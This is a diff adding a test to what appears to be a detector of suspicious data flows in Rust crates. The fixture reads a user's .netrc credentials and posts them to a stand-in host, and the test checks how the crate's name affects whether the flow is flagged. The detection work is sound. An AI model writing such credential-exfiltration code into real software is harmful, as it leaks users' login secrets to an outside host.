@@ -401,3 +401,13 @@ def test_a_table_decoded_by_index_names_what_is_run() -> None:
         "fn f() { std::process::Command::new(u24(3)).spawn().ok(); }\n"
     )
     assert flows(encoder) == []
+
+
+def test_a_vendors_client_talks_to_its_own_service() -> None:
+    source = (
+        f'fn f() {{\n{HOME}let d = std::fs::read_to_string(home.join(".netrc")).unwrap();\n'
+        'ureq::post("https://http-intake.datadoghq.example/v1").send_string(&d).ok(); }\n'
+    )
+    assert [f.fixed for f in flows(source, crate="datadog-export")] == [False]
+    # a generic word of the crate's name says nothing about whose service it is
+    assert [f.fixed for f in flows(source, crate="http-export")] == [True]
